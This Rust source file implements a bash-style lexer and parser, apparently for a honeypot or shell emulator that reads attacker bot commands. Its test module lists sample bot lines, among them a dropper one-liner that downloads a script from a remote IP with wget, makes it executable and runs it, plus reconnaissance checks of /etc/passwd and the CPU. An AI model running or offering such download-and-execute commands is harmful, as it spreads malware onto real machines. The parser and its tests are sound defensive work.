//! The shell grammar: a tokenizer that keeps quoting information, and a recursive-descent parser
//! for lists, and-or chains, pipelines, redirections and the compound commands bots use
//! (`if`, `for`, `while`/`until`, `{ …; }`, `( … )`).
//!
//! Invariant: parsing never panics and never recurses deeper than [`MAX_NESTING`]; every error is
//! a [`SyntaxError`] with bash's wording.

/// Deepest nesting of compound commands and substitutions accepted in one line.
pub(crate) const MAX_NESTING: usize = 32;

#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Part {
    /// Unquoted literal text (glob characters in it are active).
    Lit(String),
    /// Quoted literal text.
    Quoted(String),
    /// `$name` / `${name}`; `quoted` when inside double quotes.
    Var {
        name: String,
        op: Option<(String, Vec<Part>)>,
        quoted: bool,
    },
    /// `${#name}`
    Len { name: String, quoted: bool },
    /// `$(…)` or backticks: the source text, parsed when expanded.
    Cmd { src: String, quoted: bool },
    /// `$((…))`
    Arith { src: String, quoted: bool },
    /// A leading `~` or `~user`.
    Tilde(String),
}

pub(crate) type Word = Vec<Part>;

#[derive(Debug, Clone, PartialEq)]
pub(crate) enum RedirOp {
    /// `>` (or `>|`)
    Out,
    /// `>>`
    Append,
    /// `<`
    In,
    /// `n>&m`
    Dup(u32),
    /// `n>&-`
    Close,
    /// `&>` and `&>>`: stdout and stderr to one file.
    Both { append: bool },
    /// `<<<` here-string
    HereString,
    /// `<<` here-document delimiter (the body cannot follow on one line; it reads as empty).
    HereDoc,
}

#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Redir {
    pub fd: u32,
    pub op: RedirOp,
    pub target: Word,
}

#[derive(Debug, Clone, PartialEq, Default)]
pub(crate) struct Simple {
    pub assigns: Vec<(String, Word)>,
    pub words: Vec<Word>,
    pub redirs: Vec<Redir>,
}

#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Command {
    Simple(Simple),
    Group(List, Vec<Redir>),
    Subshell(List, Vec<Redir>),
    If {
        branches: Vec<(List, List)>,
        otherwise: Option<List>,
        redirs: Vec<Redir>,
    },
    For {
        var: String,
        items: Option<Vec<Word>>,
        body: List,
        redirs: Vec<Redir>,
    },
    While {
        cond: List,
        body: List,
        until: bool,
        redirs: Vec<Redir>,
    },
    Function {
        name: String,
        body: Box<Command>,
    },
}

#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Pipeline {
    pub negate: bool,
    pub commands: Vec<Command>,
}

#[derive(Debug, Clone, PartialEq)]
pub(crate) struct AndOr {
    pub first: Pipeline,
    /// `true` = `&&`, `false` = `||`
    pub rest: Vec<(bool, Pipeline)>,
    pub background: bool,
}

pub(crate) type List = Vec<AndOr>;

#[derive(Debug, Clone, PartialEq)]
pub(crate) enum SyntaxError {
    /// `syntax error near unexpected token `X'`
    Unexpected(String),
    /// `unexpected EOF while looking for matching `X'`
    Unmatched(char),
    /// `syntax error: unexpected end of file`
    Eof,
    TooDeep,
}

impl SyntaxError {
    /// The message after `bash: `, as bash prints it.
    pub fn message(&self) -> String {
        match self {
            SyntaxError::Unexpected(t) => format!("syntax error near unexpected token `{t}'"),
            SyntaxError::Unmatched(c) => {
                format!("unexpected EOF while looking for matching `{c}'")
            }
            SyntaxError::Eof => "syntax error: unexpected end of file".to_owned(),
            SyntaxError::TooDeep => "expression recursion level exceeded".to_owned(),
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Word(Word, String),
    Op(&'static str),
    Redir(u32, RedirOp),
}

const OPS: &[&str] = &[
    "&&", "||", ";;", "&>>", "&>", ">>", ">&", "<&", ">|", "<<<", "<<", ";", "&", "|", "(", ")",
    "<", ">", "\n",
];

struct Lexer<'a> {
    s: &'a [char],
    i: usize,
}

fn is_name_start(c: char) -> bool {
    c == '_' || c.is_ascii_alphabetic()
}
fn is_name_char(c: char) -> bool {
    c == '_' || c.is_ascii_alphanumeric()
}

impl<'a> Lexer<'a> {
    fn peek(&self) -> Option<char> {
        self.s.get(self.i).copied()
    }
    fn at(&self, k: usize) -> Option<char> {
        self.s.get(self.i + k).copied()
    }
    fn starts_with(&self, op: &str) -> bool {
        op.chars().enumerate().all(|(k, c)| self.at(k) == Some(c))
    }

    fn tokens(&mut self) -> Result<Vec<Tok>, SyntaxError> {
        let mut out = Vec::new();
        loop {
            while matches!(self.peek(), Some(' ') | Some('\t') | Some('\r')) {
                self.i += 1;
            }
            let Some(c) = self.peek() else { break };
            if c == '#' {
                while !matches!(self.peek(), None | Some('\n')) {
                    self.i += 1;
                }
                continue;
            }
            if c == '\\' && self.at(1) == Some('\n') {
                self.i += 2;
                continue;
            }
            if let Some(op) = OPS.iter().find(|op| self.starts_with(op)) {
                self.i += op.len();
                out.push(self.operator(op, None)?);
                continue;
            }
            // A run of digits directly before `<`/`>` is a file-descriptor number.
            let mut k = 0;
            while self.at(k).is_some_and(|d| d.is_ascii_digit()) {
                k += 1;
            }
            if k > 0 && k < 4 && matches!(self.at(k), Some('<') | Some('>')) {
                let fd: u32 = self.s[self.i..self.i + k]
                    .iter()
                    .collect::<String>()
                    .parse()
                    .unwrap_or(1);
                self.i += k;
                let op = OPS
                    .iter()
                    .find(|op| self.starts_with(op))
                    .copied()
                    .unwrap_or(">");
                self.i += op.len();
                out.push(self.operator(op, Some(fd))?);
                continue;
            }
            let start = self.i;
            let word = self.word(0)?;
            let raw: String = self.s[start..self.i].iter().collect();
            out.push(Tok::Word(word, raw));
        }
        Ok(out)
    }

    fn operator(&mut self, op: &'static str, fd: Option<u32>) -> Result<Tok, SyntaxError> {
        let redir = |fd_default: u32, op: RedirOp| Tok::Redir(fd.unwrap_or(fd_default), op);
        Ok(match op {
            ">" | ">|" => redir(1, RedirOp::Out),
            ">>" => redir(1, RedirOp::Append),
            "<" => redir(0, RedirOp::In),
            "<<<" => redir(0, RedirOp::HereString),
            "<<" => {
                if self.peek() == Some('-') {
                    self.i += 1;
                }
                redir(0, RedirOp::HereDoc)
            }
            "&>" => Tok::Redir(1, RedirOp::Both { append: false }),
            "&>>" => Tok::Redir(1, RedirOp::Both { append: true }),
            ">&" | "<&" => {
                let default = if op == ">&" { 1 } else { 0 };
                while matches!(self.peek(), Some(' ') | Some('\t')) {
                    self.i += 1;
                }
                if self.peek() == Some('-') {
                    self.i += 1;
                    redir(default, RedirOp::Close)
                } else if self.peek().is_some_and(|c| c.is_ascii_digit())
                    && !self
                        .at(1)
                        .is_some_and(|c| !matches!(c, ' ' | '\t' | ';' | '&' | '|' | ')' | '\n'))
                {
                    let d = self.peek().and_then(|c| c.to_digit(10)).unwrap_or(1);
                    self.i += 1;
                    redir(default, RedirOp::Dup(d))
                } else if fd.is_none() && op == ">&" {
                    // `>& file` means `&> file`.
                    Tok::Redir(1, RedirOp::Both { append: false })
                } else {
                    return Err(SyntaxError::Unexpected(op.to_owned()));
                }
            }
            other => Tok::Op(other),
        })
    }

    fn word(&mut self, depth: usize) -> Result<Word, SyntaxError> {
        if depth > MAX_NESTING {
            return Err(SyntaxError::TooDeep);
        }
        let mut parts: Word = Vec::new();
        let mut lit = String::new();
        let flush = |lit: &mut String, parts: &mut Word| {
            if !lit.is_empty() {
                parts.push(Part::Lit(std::mem::take(lit)));
            }
        };
        if self.peek() == Some('~') {
            let mut k = 1;
            let mut user = String::new();
            while let Some(c) = self.at(k) {
                if is_name_char(c) || c == '-' || c == '.' {
                    user.push(c);
                    k += 1;
                } else {
                    break;
                }
            }
            if matches!(
                self.at(k),
                None | Some('/')
                    | Some(' ')
                    | Some('\t')
                    | Some(';')
                    | Some('&')
                    | Some('|')
                    | Some(')')
                    | Some('\n')
                    | Some(':')
            ) {
                self.i += k;
                parts.push(Part::Tilde(user));
            }
        }
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => break,
                '\\' => {
                    self.i += 1;
                    match self.peek() {
                        Some('\n') => self.i += 1,
                        Some(n) => {
                            flush(&mut lit, &mut parts);
                            parts.push(Part::Quoted(n.to_string()));
                            self.i += 1;
                        }
                        None => {}
                    }
                }
                '\'' => {
                    flush(&mut lit, &mut parts);
                    self.i += 1;
                    let mut q = String::new();
                    loop {
                        match self.peek() {
                            None => return Err(SyntaxError::Unmatched('\'')),
                            Some('\'') => {
                                self.i += 1;
                                break;
                            }
                            Some(ch) => {
                                q.push(ch);
                                self.i += 1;
                            }
                        }
                    }
                    parts.push(Part::Quoted(q));
                }
                '"' => {
                    flush(&mut lit, &mut parts);
                    self.i += 1;
                    let inner = self.double_quoted(depth)?;
                    if inner.is_empty() {
                        parts.push(Part::Quoted(String::new()));
                    }
                    parts.extend(inner);
                }
                '$' => {
                    flush(&mut lit, &mut parts);
                    match self.dollar(false, depth)? {
                        Some(p) => parts.push(p),
                        None => lit.push('$'),
                    }
                }
                '`' => {
                    flush(&mut lit, &mut parts);
                    let src = self.backtick()?;
                    parts.push(Part::Cmd { src, quoted: false });
                }
                _ => {
                    lit.push(c);
                    self.i += 1;
                }
            }
        }
        flush(&mut lit, &mut parts);
        Ok(parts)
    }

    fn double_quoted(&mut self, depth: usize) -> Result<Vec<Part>, SyntaxError> {
        let mut parts = Vec::new();
        let mut q = String::new();
        loop {
            match self.peek() {
                None => return Err(SyntaxError::Unmatched('"')),
                Some('"') => {
                    self.i += 1;
                    break;
                }
                Some('\\') => {
                    self.i += 1;
                    match self.peek() {
                        Some(n @ ('$' | '`' | '"' | '\\')) => {
                            q.push(n);
                            self.i += 1;
                        }
                        Some('\n') => self.i += 1,
                        _ => q.push('\\'),
                    }
                }
                Some('$') => {
                    if let Some(p) = self.dollar(true, depth)? {
                        if !q.is_empty() {
                            parts.push(Part::Quoted(std::mem::take(&mut q)));
                        }
                        parts.push(p);
                    } else {
                        q.push('$');
                    }
                }
                Some('`') => {
                    if !q.is_empty() {
                        parts.push(Part::Quoted(std::mem::take(&mut q)));
                    }
                    let src = self.backtick()?;
                    parts.push(Part::Cmd { src, quoted: true });
                }
                Some(c) => {
                    q.push(c);
                    self.i += 1;
                }
            }
        }
        if !q.is_empty() {
            parts.push(Part::Quoted(q));
        }
        Ok(parts)
    }

    fn backtick(&mut self) -> Result<String, SyntaxError> {
        self.i += 1;
        let mut src = String::new();
        loop {
            match self.peek() {
                None => return Err(SyntaxError::Unmatched('`')),
                Some('`') => {
                    self.i += 1;
                    return Ok(src);
                }
                Some('\\') if matches!(self.at(1), Some('`') | Some('\\') | Some('$')) => {
                    src.push(self.at(1).unwrap_or('\\'));
                    self.i += 2;
                }
                Some(c) => {
                    src.push(c);
                    self.i += 1;
                }
            }
        }
    }

    /// Scans to the `)` matching an already-consumed `(`, honouring quotes; returns the text.
    fn balanced(&mut self, close_twice: bool) -> Result<String, SyntaxError> {
        let mut depth = 1usize;
        let mut src = String::new();
        loop {
            let Some(c) = self.peek() else {
                return Err(SyntaxError::Unmatched(')'));
            };
            self.i += 1;
            match c {
                '\\' => {
                    src.push(c);
                    if let Some(n) = self.peek() {
                        src.push(n);
                        self.i += 1;
                    }
                    continue;
                }
                '\'' | '"' => {
                    src.push(c);
                    while let Some(n) = self.peek() {
                        self.i += 1;
                        src.push(n);
                        if n == '\\' && c == '"' {
                            if let Some(m) = self.peek() {
                                src.push(m);
                                self.i += 1;
                            }
                            continue;
                        }
                        if n == c {
                            break;
                        }
                    }
                    continue;
                }
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        if close_twice {
                            if self.peek() == Some(')') {
                                self.i += 1;
                            } else {
                                return Err(SyntaxError::Unmatched(')'));
                            }
                        }
                        return Ok(src);
                    }
                }
                _ => {}
            }
            src.push(c);
        }
    }

    fn dollar(&mut self, quoted: bool, depth: usize) -> Result<Option<Part>, SyntaxError> {
        // At '$'.
        match self.at(1) {
            Some('(') if self.at(2) == Some('(') => {
                self.i += 3;
                let src = self.balanced(true)?;
                Ok(Some(Part::Arith { src, quoted }))
            }
            Some('(') => {
                self.i += 2;
                let src = self.balanced(false)?;
                Ok(Some(Part::Cmd { src, quoted }))
            }
            Some('{') => {
                self.i += 2;
                let mut inner = String::new();
                let mut level = 1;
                loop {
                    match self.peek() {
                        None => return Err(SyntaxError::Unmatched('}')),
                        Some('{') => level += 1,
                        Some('}') => {
                            level -= 1;
                            if level == 0 {
                                self.i += 1;
                                break;
                            }
                        }
                        _ => {}
                    }
                    if let Some(ch) = self.peek() {
                        inner.push(ch);
                    }
                    self.i += 1;
                }
                Ok(Some(parse_brace(&inner, quoted, depth)?))
            }
            Some(c) if is_name_start(c) => {
                self.i += 1;
                let mut name = String::new();
                while let Some(c) = self.peek().filter(|c| is_name_char(*c)) {
                    name.push(c);
                    self.i += 1;
                }
                Ok(Some(Part::Var {
                    name,
                    op: None,
                    quoted,
                }))
            }
            Some(c) if c.is_ascii_digit() || "?$#@*!-".contains(c) => {
                self.i += 2;
                Ok(Some(Part::Var {
                    name: c.to_string(),
                    op: None,
                    quoted,
                }))
            }
            _ => {
                self.i += 1;
                Ok(None)
            }
        }
    }
}

fn parse_brace(inner: &str, quoted: bool, depth: usize) -> Result<Part, SyntaxError> {
    if let Some(name) = inner.strip_prefix('#') {
        if !name.is_empty() {
            return Ok(Part::Len {
                name: name.to_owned(),
                quoted,
            });
        }
    }
    let name: String = match inner.chars().next() {
        Some(c) if "?$#@*!".contains(c) => c.to_string(),
        _ => inner.chars().take_while(|c| is_name_char(*c)).collect(),
    };
    let rest = &inner[name.len()..];
    if name.is_empty() {
        return Err(SyntaxError::Unexpected(format!("${{{inner}}}")));
    }
    if rest.is_empty() {
        return Ok(Part::Var {
            name,
            op: None,
            quoted,
        });
    }
    let op_len = if [":-", ":=", ":+", ":?", "##", "%%"]
        .iter()
        .any(|o| rest.starts_with(o))
    {
        2
    } else if rest.starts_with(['-', '=', '+', '?', '#', '%']) {
        1
    } else {
        return Err(SyntaxError::Unexpected(format!("${{{inner}}}")));
    };
    let op = rest[..op_len].to_owned();
    let chars: Vec<char> = rest[op_len..].chars().collect();
    let mut lx = Lexer { s: &chars, i: 0 };
    let mut arg = Vec::new();
    while lx.peek().is_some() {
        let before = lx.i;
        arg.extend(lx.word(depth + 1)?);
        if lx.i == before {
            if let Some(c) = lx.peek() {
                arg.push(Part::Lit(c.to_string()));
            }
            lx.i += 1;
        }
    }
    Ok(Part::Var {
        name,
        op: Some((op, arg)),
        quoted,
    })
}

struct Parser {
    toks: Vec<Tok>,
    i: usize,
    depth: usize,
}

const RESERVED_END: &[&str] = &["then", "elif", "else", "fi", "do", "done", "}", "esac"];

impl Parser {
    fn peek(&self) -> Option<&Tok> {
        self.toks.get(self.i)
    }
    fn peek_op(&self) -> Option<&'static str> {
        match self.peek() {
            Some(Tok::Op(o)) => Some(o),
            _ => None,
        }
    }
    fn peek_keyword(&self) -> Option<&str> {
        match self.peek() {
            Some(Tok::Word(w, raw)) if w.len() == 1 && matches!(w[0], Part::Lit(_)) => {
                Some(raw.as_str())
            }
            _ => None,
        }
    }
    fn skip_newlines(&mut self) {
        while self.peek_op() == Some("\n") {
            self.i += 1;
        }
    }
    fn expect_keyword(&mut self, kw: &str) -> Result<(), SyntaxError> {
        self.skip_newlines();
        match self.peek_keyword() {
            Some(k) if k == kw => {
                self.i += 1;
                Ok(())
            }
            _ => Err(self.unexpected()),
        }
    }
    fn unexpected(&self) -> SyntaxError {
        match self.peek() {
            None => SyntaxError::Eof,
            Some(Tok::Op("\n")) => SyntaxError::Unexpected("newline".into()),
            Some(Tok::Op(o)) => SyntaxError::Unexpected((*o).into()),
            Some(Tok::Word(_, raw)) => SyntaxError::Unexpected(raw.clone()),
            Some(Tok::Redir(..)) => SyntaxError::Unexpected("newline".into()),
        }
    }

    /// A list up to end of input or a closing keyword / `)`.
    fn list(&mut self) -> Result<List, SyntaxError> {
        self.depth += 1;
        if self.depth > MAX_NESTING {
            return Err(SyntaxError::TooDeep);
        }
        let mut list = Vec::new();
        loop {
            self.skip_newlines();
            match self.peek() {
                None => break,
                Some(Tok::Op(")")) | Some(Tok::Op(";;")) => break,
                _ => {}
            }
            if let Some(k) = self.peek_keyword() {
                if RESERVED_END.contains(&k) {
                    break;
                }
            }
            let mut ao = self.and_or()?;
            match self.peek_op() {
                Some(";") | Some("\n") => self.i += 1,
                Some("&") => {
                    ao.background = true;
                    self.i += 1;
                }
                _ => {}
            }
            list.push(ao);
        }
        self.depth -= 1;
        Ok(list)
    }

    fn and_or(&mut self) -> Result<AndOr, SyntaxError> {
        let first = self.pipeline()?;
        let mut rest = Vec::new();
        while let Some(op @ ("&&" | "||")) = self.peek_op() {
            self.i += 1;
            self.skip_newlines();
            rest.push((op == "&&", self.pipeline()?));
        }
        Ok(AndOr {
            first,
            rest,
            background: false,
        })
    }

    fn pipeline(&mut self) -> Result<Pipeline, SyntaxError> {
        let mut negate = false;
        if self.peek_keyword() == Some("!") {
            negate = true;
            self.i += 1;
        }
        let mut commands = vec![self.command()?];
        while self.peek_op() == Some("|") {
            self.i += 1;
            self.skip_newlines();
            commands.push(self.command()?);
        }
        Ok(Pipeline { negate, commands })
    }

    fn redirs(&mut self) -> Result<Vec<Redir>, SyntaxError> {
        let mut out = Vec::new();
        while let Some(Tok::Redir(fd, op)) = self.peek().cloned() {
            self.i += 1;
            out.push(self.redir_target(fd, op)?);
        }
        Ok(out)
    }

    fn redir_target(&mut self, fd: u32, op: RedirOp) -> Result<Redir, SyntaxError> {
        if matches!(op, RedirOp::Dup(_) | RedirOp::Close) {
            return Ok(Redir {
                fd,
                op,
                target: Vec::new(),
            });
        }
        match self.peek().cloned() {
            Some(Tok::Word(w, _)) => {
                self.i += 1;
                Ok(Redir { fd, op, target: w })
            }
            _ => Err(self.unexpected()),
        }
    }

    fn command(&mut self) -> Result<Command, SyntaxError> {
        match self.peek_keyword() {
            Some("if") => {
                self.i += 1;
                let mut branches = Vec::new();
                let mut otherwise = None;
                let cond = self.list()?;
                self.expect_keyword("then")?;
                let body = self.list()?;
                branches.push((cond, body));
                loop {
                    self.skip_newlines();
                    match self.peek_keyword() {
                        Some("elif") => {
                            self.i += 1;
                            let c = self.list()?;
                            self.expect_keyword("then")?;
                            let b = self.list()?;
                            branches.push((c, b));
                        }
                        Some("else") => {
                            self.i += 1;
                            otherwise = Some(self.list()?);
                        }
                        Some("fi") => {
                            self.i += 1;
                            break;
                        }
                        _ => return Err(self.unexpected()),
                    }
                }
                let redirs = self.redirs()?;
                return Ok(Command::If {
                    branches,
                    otherwise,
                    redirs,
                });
            }
            Some(kw @ ("while" | "until")) => {
                let until = kw == "until";
                self.i += 1;
                let cond = self.list()?;
                self.expect_keyword("do")?;
                let body = self.list()?;
                self.expect_keyword("done")?;
                let redirs = self.redirs()?;
                return Ok(Command::While {
                    cond,
                    body,
                    until,
                    redirs,
                });
            }
            Some("for") => {
                self.i += 1;
                let var = match self.peek() {
                    Some(Tok::Word(_, raw)) if raw.chars().all(is_name_char) && !raw.is_empty() => {
                        raw.clone()
                    }
                    _ => return Err(self.unexpected()),
                };
                self.i += 1;
                let mut items = None;
                self.skip_newlines();
                if self.peek_keyword() == Some("in") {
                    self.i += 1;
                    let mut words = Vec::new();
                    while let Some(Tok::Word(w, raw)) = self.peek().cloned() {
                        if raw == "do" {
                            break;
                        }
                        words.push(w);
                        self.i += 1;
                    }
                    items = Some(words);
                }
                if matches!(self.peek_op(), Some(";") | Some("\n")) {
                    self.i += 1;
                }
                self.expect_keyword("do")?;
                let body = self.list()?;
                self.expect_keyword("done")?;
                let redirs = self.redirs()?;
                return Ok(Command::For {
                    var,
                    items,
                    body,
                    redirs,
                });
            }
            Some("{") => {
                self.i += 1;
                let body = self.list()?;
                self.expect_keyword("}")?;
                let redirs = self.redirs()?;
                return Ok(Command::Group(body, redirs));
            }
            Some(k) if RESERVED_END.contains(&k) => return Err(self.unexpected()),
            _ => {}
        }
        if self.peek_op() == Some("(") {
            self.i += 1;
            let body = self.list()?;
            if self.peek_op() != Some(")") {
                return Err(self.unexpected());
            }
            self.i += 1;
            let redirs = self.redirs()?;
            return Ok(Command::Subshell(body, redirs));
        }
        let mut simple = Simple::default();
        loop {
            match self.peek().cloned() {
                Some(Tok::Word(w, raw)) => {
                    self.i += 1;
                    if simple.words.is_empty() {
                        if let Some((name, _)) = raw.split_once('=') {
                            if !name.is_empty()
                                && name.chars().all(is_name_char)
                                && !name.starts_with(|c: char| c.is_ascii_digit())
                            {
                                simple.assigns.push((
                                    name.to_owned(),
                                    strip_assign_prefix(&w, name.len() + 1),
                                ));
                                continue;
                            }
                        }
                        // `name() { …; }` defines a function.
                        if self.peek_op() == Some("(")
                            && self.toks.get(self.i + 1) == Some(&Tok::Op(")"))
                        {
                            self.i += 2;
                            self.skip_newlines();
                            let body = self.command()?;
                            return Ok(Command::Function {
                                name: raw,
                                body: Box::new(body),
                            });
                        }
                    }
                    simple.words.push(w);
                }
                Some(Tok::Redir(fd, op)) => {
                    self.i += 1;
                    simple.redirs.push(self.redir_target(fd, op)?);
                }
                _ => break,
            }
        }
        if simple.words.is_empty() && simple.assigns.is_empty() && simple.redirs.is_empty() {
            return Err(self.unexpected());
        }
        Ok(Command::Simple(simple))
    }
}

/// Drops the `name=` prefix (which is always literal) from an assignment word.
fn strip_assign_prefix(w: &Word, mut n: usize) -> Word {
    let mut out = Vec::new();
    for p in w {
        if n == 0 {
            out.push(p.clone());
            continue;
        }
        match p {
            Part::Lit(s) => {
                let len = s.chars().count();
                if len <= n {
                    n -= len;
                } else {
                    out.push(Part::Lit(s.chars().skip(n).collect()));
                    n = 0;
                }
            }
            other => {
                out.push(other.clone());
                n = 0;
            }
        }
    }
    out
}

/// Parses a whole command line (or script).
pub(crate) fn parse(src: &str) -> Result<List, SyntaxError> {
    let chars: Vec<char> = src.chars().collect();
    let toks = Lexer { s: &chars, i: 0 }.tokens()?;
    let mut p = Parser {
        toks,
        i: 0,
        depth: 0,
    };
    let list = p.list()?;
    if p.i < p.toks.len() {
        return Err(p.unexpected());
    }
    Ok(list)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_common_bot_lines() {
        for line in [
            "cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/x.sh; chmod 777 x.sh; sh x.sh",
            "echo -e '\\x41\\x42' > /tmp/a && cat /tmp/a",
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
            "for i in 1 2 3; do echo $i; done",
            "if [ -f /etc/passwd ]; then echo yes; else echo no; fi",
            "while true; do sleep 1; done",
            "echo \"$(uname -a)\" `whoami` ${HOME:-/root} $((1+2))",
            "ls -la 2>&1 >/dev/null | wc -l &",
            "f() { echo hi; }; f",
            "{ echo a; echo b; } > /tmp/x",
            "(cd /; ls)",
        ] {
            assert!(parse(line).is_ok(), "{line}: {:?}", parse(line));
        }
    }

    #[test]
    fn reports_errors_like_bash() {
        assert_eq!(
            parse("echo 'abc").unwrap_err().message(),
            "unexpected EOF while looking for matching `''"
        );
        assert_eq!(
            parse("ls | | wc").unwrap_err().message(),
            "syntax error near unexpected token `|'"
        );
        assert_eq!(
            parse(";").unwrap_err().message(),
            "syntax error near unexpected token `;'"
        );
        assert!(parse("if true; then echo").is_err());
    }
}
